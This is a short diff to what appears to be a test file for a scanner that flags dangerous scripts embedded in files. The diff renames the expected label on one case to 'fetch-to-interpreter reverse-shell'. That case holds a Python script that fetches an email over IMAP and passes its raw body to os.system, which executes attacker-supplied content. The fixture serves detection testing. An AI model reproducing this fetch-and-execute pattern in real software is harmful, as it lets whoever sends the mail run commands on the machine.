@@ -998,7 +998,7 @@ describe("scripts in files", () => {
       "python runs a mail's subject",
       "/srv/a",
       "#!/usr/bin/python3\nimport imaplib, os\nm = imaplib.IMAP4_SSL('mail.example.test')\n_, d = m.fetch('1', '(RFC822)')\nos.system(d[0][1])\n",
-      "reverse-shell",
+      "fetch-to-interpreter reverse-shell",
     ],
     [
       "python loads an object from a page, and one of its own",
